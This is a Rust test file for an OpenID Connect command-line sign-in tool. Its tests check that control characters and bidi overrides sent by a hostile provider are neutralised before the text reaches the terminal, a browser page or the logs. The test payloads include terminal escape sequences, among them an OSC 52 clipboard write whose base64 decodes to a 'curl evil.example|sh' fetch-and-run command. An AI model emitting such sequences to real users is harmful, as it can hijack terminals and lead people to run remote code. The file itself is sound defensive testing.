//! Nothing a provider sends reaches the terminal with a control character or a bidi override in it:
//! an `error_description` (from the callback or the token endpoint), an error code, an issuer, a
//! user's name in the JSON output, an access token.
//!
//! The callback and the user's name come from the real identity provider (dev/idp). For what dev/idp
//! never sends (an escape sequence in a token endpoint error or in its discovery document), the test
//! runs a hostile provider of its own: a real HTTP server (axum) that answers discovery, sends the
//! browser straight back with a code, and refuses the code with the text under test. It is no stand-in
//! for dev/idp, it is the misbehaving provider the product must withstand.

use std::{net::SocketAddr, sync::Arc};

use axum::{
    extract::{Query, State},
    http::StatusCode,
    response::{IntoResponse, Redirect},
    routing::{get, post},
    Json, Router,
};
use native_oidc::text::is_unprintable;
use serde_json::{json, Value};
use testkit::{IdpOptions, CLIENT_ID};

use super::{
    block_on, browser,
    loopback::{address, assert_port_closes, Waiting},
    Env, Run,
};

/// Writes the clipboard (OSC 52), clears the screen (CSI 2J), an 8-bit CSI (C1), DEL, a right-to-left
/// override, a line break.
const HOSTILE: &str =
    "Denied\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u{7}\u{1b}[2J\u{9b}31m\u{7f}\u{202e}gnp.exe\r\nend";

/// What is left of [`HOSTILE`] on the terminal.
const SHOWN: &str = "Denied\u{FFFD}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u{FFFD}\u{FFFD}[2J\u{FFFD}31m\u{FFFD}\u{FFFD}gnp.exe  end";

/// The one error line of `run`, checked to hold no control character or bidi override.
fn clean_error_line(run: &Run) -> &str {
    let line = run.error_line();
    assert!(
        !line.chars().any(is_unprintable),
        "a control character reached the terminal: {line:?}"
    );
    line
}

#[test]
fn an_error_description_in_the_callback_is_shown_without_control_characters() {
    let env = Env::new(IdpOptions::default());
    let issuer = env.idp.issuer().to_string();
    let mut waiting = Waiting::start(
        &env,
        &["login", "--issuer", &issuer, "--client-id", CLIENT_ID],
    );
    let redirect = waiting.param("redirect_uri");
    let mut callback = url::Url::parse(&redirect).unwrap();
    callback
        .query_pairs_mut()
        .append_pair("error", "access_denied")
        .append_pair("error_description", HOSTILE)
        .append_pair("state", &waiting.param("state"))
        .append_pair("iss", &issuer);
    assert_eq!(
        super::loopback::send(reqwest::Method::GET, callback.as_str()),
        400
    );
    // An error ends the sign-in: the port closes.
    assert_port_closes(address(&redirect));
    let run = waiting.finish();
    let line = clean_error_line(&run);
    assert_eq!(
        line,
        format!("error: access_denied: access_denied: {SHOWN}")
    );
}

#[test]
fn the_json_output_escapes_what_serde_json_writes_raw() {
    // A user whose name, from the real provider's ID token and userinfo, holds C1 controls, DEL and a
    // bidi override: serde_json escapes only C0 controls.
    let env_dir = tempfile::tempdir().unwrap();
    let users = env_dir.path().join("users.json");
    let name = "Eve\u{9b}2J\u{7f}\u{202e}resU\u{2066}";
    std::fs::write(
        &users,
        json!([{
            "id": "user-hostile",
            "username": "hostile",
            "password": "hostile-password",
            "claims": { "name": name, "email": "eve@example.com", "email_verified": true },
        }])
        .to_string(),
    )
    .unwrap();
    let env = Env::new(IdpOptions {
        users_file: Some(users),
        ..Default::default()
    });
    let browser = format!("{} --user hostile --password hostile-password", browser());
    let login = super::finish(env.login_command(&browser, &[]).output().unwrap());
    let status = env.run(&["status"]);
    for run in [&login, &status] {
        assert_eq!(run.code, 0, "{}", run.stderr);
        let raw: Vec<char> = run
            .stdout
            .chars()
            .filter(|&c| c != '\n' && is_unprintable(c))
            .collect();
        assert!(
            raw.is_empty(),
            "{raw:?} reached the terminal: {}",
            run.stdout
        );
        assert!(
            run.stdout.contains(r"Eve\u009b2J\u007f\u202eresU\u2066"),
            "{}",
            run.stdout
        );
        // Still the same JSON value for a program that reads it.
        assert_eq!(run.json()["name"], name);
    }
}

#[test]
fn an_access_token_that_is_not_printable_is_not_printed() {
    let env = Env::new(IdpOptions::default());
    env.login(&[]).json();
    let mut stored: Value = serde_json::from_slice(&std::fs::read(env.session()).unwrap()).unwrap();
    stored["access_token"] = json!("eyJ\u{1b}]52;c;ZXZpbA==\u{7}");
    std::fs::write(env.session(), stored.to_string()).unwrap();
    let run = env.run(&["token"]);
    let line = clean_error_line(&run);
    assert!(line.starts_with("error: protocol: "), "{line}");
    assert!(run.stdout.is_empty(), "{:?}", run.stdout);
}

/// What the hostile provider sends.
#[derive(Clone, Default)]
struct Hostile {
    /// The `issuer` of its discovery document (its own issuer when `None`).
    issuer: Option<String>,
    /// The `error` and `error_description` its token endpoint answers.
    token_error: (String, String),
}

/// A provider that answers with `hostile`'s texts, on a free loopback port; returns its issuer.
fn start_hostile(runtime: &tokio::runtime::Runtime, hostile: Hostile) -> String {
    let listener = runtime
        .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
        .unwrap();
    let addr: SocketAddr = listener.local_addr().unwrap();
    let issuer = format!("http://{addr}");
    let state = Arc::new((issuer.clone(), hostile));
    let app = Router::new()
        .route("/.well-known/openid-configuration", get(discovery))
        .route("/keys", get(|| async { Json(json!({ "keys": [] })) }))
        .route("/authorize", get(authorize))
        .route("/token", post(token))
        .with_state(state);
    runtime.spawn(async move { axum::serve(listener, app).await });
    issuer
}

type Shared = State<Arc<(String, Hostile)>>;

async fn discovery(State(state): Shared) -> Json<Value> {
    let (issuer, hostile) = &*state;
    Json(json!({
        "issuer": hostile.issuer.clone().unwrap_or_else(|| issuer.clone()),
        "authorization_endpoint": format!("{issuer}/authorize"),
        "token_endpoint": format!("{issuer}/token"),
        "jwks_uri": format!("{issuer}/keys"),
        "response_types_supported": ["code"],
        "subject_types_supported": ["public"],
        "id_token_signing_alg_values_supported": ["RS256"],
        "code_challenge_methods_supported": ["S256"],
    }))
}

/// Sends the browser straight back to the app with a code.
async fn authorize(
    State(state): Shared,
    Query(query): Query<std::collections::HashMap<String, String>>,
) -> Redirect {
    let mut back = url::Url::parse(&query["redirect_uri"]).unwrap();
    back.query_pairs_mut()
        .append_pair("code", "hostile-code")
        .append_pair("state", &query["state"])
        .append_pair("iss", &state.0);
    Redirect::to(back.as_str())
}

async fn token(State(state): Shared) -> impl IntoResponse {
    let (error, description) = &state.1.token_error;
    (
        StatusCode::BAD_REQUEST,
        Json(json!({ "error": error, "error_description": description })),
    )
}

/// `signin login` against `issuer`, the browser coming back through a custom scheme.
fn login_against(env: &Env, issuer: &str) -> Run {
    let browser = browser();
    env.run(&[
        "login",
        "--issuer",
        issuer,
        "--client-id",
        "hostile-client",
        "--redirect-uri",
        "com.okta.example:/callback",
        "--browser",
        &browser,
    ])
}

#[test]
fn an_error_from_the_token_endpoint_is_shown_without_control_characters() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let env = Env::new(IdpOptions::default());
    let issuer = start_hostile(
        &runtime,
        Hostile {
            token_error: ("invalid_grant".into(), HOSTILE.into()),
            ..Default::default()
        },
    );
    let run = login_against(&env, &issuer);
    assert_eq!(
        clean_error_line(&run),
        format!("error: invalid_grant: invalid_grant: {SHOWN}")
    );
    assert!(!env.session().exists());

    // The error code is the provider's text too, and it is the kind on the error line.
    let issuer = start_hostile(
        &runtime,
        Hostile {
            token_error: ("bad\u{1b}[2J\u{9b}code".into(), "no".into()),
            ..Default::default()
        },
    );
    let run = login_against(&env, &issuer);
    assert_eq!(
        clean_error_line(&run),
        "error: bad\u{FFFD}[2J\u{FFFD}code: bad\u{FFFD}[2J\u{FFFD}code: no"
    );
}

#[test]
fn an_issuer_from_discovery_is_shown_without_control_characters() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let env = Env::new(IdpOptions::default());
    let issuer = start_hostile(
        &runtime,
        Hostile {
            issuer: Some("https://idp.example.com/\u{1b}]52;c;ZXZpbA==\u{7}".into()),
            ..Default::default()
        },
    );
    let run = login_against(&env, &issuer);
    let line = clean_error_line(&run);
    assert!(line.starts_with("error: issuer_mismatch: "), "{line}");
    assert!(line.contains("\u{FFFD}]52;c;ZXZpbA==\u{FFFD}"), "{line}");
}

#[test]
fn the_page_after_a_callback_shows_no_control_characters() {
    // The browser's page carries the provider's words too (the user's name, an error).
    let env = Env::new(IdpOptions::default());
    let issuer = env.idp.issuer().to_string();
    let mut waiting = Waiting::start(
        &env,
        &["login", "--issuer", &issuer, "--client-id", CLIENT_ID],
    );
    let mut callback = url::Url::parse(&waiting.param("redirect_uri")).unwrap();
    callback
        .query_pairs_mut()
        .append_pair("error", "access_denied")
        .append_pair("error_description", HOSTILE)
        .append_pair("state", &waiting.param("state"))
        .append_pair("iss", &issuer);
    let body =
        block_on(async { reqwest::get(callback.as_str()).await.unwrap().text().await }).unwrap();
    assert!(!body.chars().any(is_unprintable), "{body:?}");
    assert!(body.contains("Denied\u{FFFD}]52;c;"), "{body}");
    waiting.finish();
}

#[test]
fn an_api_answer_is_shown_clean_on_a_terminal_and_kept_whole_in_a_pipe() {
    // The real provider's userinfo for a user whose name holds a C1 CSI and a bidi override (dev/idp's
    // JSON escapes C0 controls only). `script` (util-linux) gives `signin call` a terminal.
    let env_dir = tempfile::tempdir().unwrap();
    let users = env_dir.path().join("users.json");
    let name = "Eve\u{9b}2J\u{202e}resU";
    std::fs::write(
        &users,
        json!([{
            "id": "user-hostile",
            "username": "hostile",
            "password": "hostile-password",
            "claims": { "name": name },
        }])
        .to_string(),
    )
    .unwrap();
    let env = Env::new(IdpOptions {
        users_file: Some(users),
        ..Default::default()
    });
    let browser = format!("{} --user hostile --password hostile-password", browser());
    super::finish(env.login_command(&browser, &[]).output().unwrap()).json();
    let userinfo = format!("{}/v1/userinfo", env.idp.issuer());

    // Into a pipe: the bytes as the API sent them.
    let piped = env.run(&["call", &userinfo]);
    assert_eq!(piped.code, 0, "{}", piped.stderr);
    assert!(piped.stdout.contains(name), "{}", piped.stdout);

    // On a terminal: nothing that acts on it.
    let command = env.command(&["call", &userinfo]);
    let line = std::iter::once(command.get_program())
        .chain(command.get_args())
        .map(|word| format!("'{}'", word.to_str().unwrap()))
        .collect::<Vec<_>>()
        .join(" ");
    let mut script = std::process::Command::new("script");
    script.args(["-qec", &line, "/dev/null"]);
    for (key, value) in command.get_envs() {
        match value {
            Some(value) => script.env(key, value),
            None => script.env_remove(key),
        };
    }
    let shown = super::finish(script.stdin(std::process::Stdio::null()).output().unwrap());
    assert_eq!(shown.code, 0, "{} {}", shown.stdout, shown.stderr);
    assert!(
        shown.stdout.contains("Eve\u{FFFD}2J\u{FFFD}resU"),
        "{:?}",
        shown.stdout
    );
    let raw: Vec<char> = shown
        .stdout
        .chars()
        .filter(|&c| !matches!(c, '\n' | '\r') && is_unprintable(c))
        .collect();
    assert!(
        raw.is_empty(),
        "{raw:?} reached the terminal: {:?}",
        shown.stdout
    );
}

#[test]
fn log_lines_show_no_control_characters() {
    // A subject (`sub`, the user's id at dev/idp) with a bidi override and a carriage return, logged
    // at info level when signing in.
    let env_dir = tempfile::tempdir().unwrap();
    let users = env_dir.path().join("users.json");
    let subject = "user\u{202e}\u{9b}x\ry";
    std::fs::write(
        &users,
        json!([{
            "id": subject,
            "username": "hostile",
            "password": "hostile-password",
            "claims": { "name": "Eve" },
        }])
        .to_string(),
    )
    .unwrap();
    let env = Env::new(IdpOptions {
        users_file: Some(users),
        ..Default::default()
    });
    let browser = format!("{} --user hostile --password hostile-password", browser());
    let run = super::finish(
        env.login_command(&browser, &[])
            .env("RUST_LOG", "info")
            .output()
            .unwrap(),
    );
    assert_eq!(run.json()["subject"], subject);
    assert!(run.stderr.contains("signed in"), "{}", run.stderr);
    let raw: Vec<char> = run
        .stderr
        .chars()
        .filter(|&c| c != '\n' && is_unprintable(c))
        .collect();
    assert!(
        raw.is_empty(),
        "{raw:?} reached the terminal: {:?}",
        run.stderr
    );
}
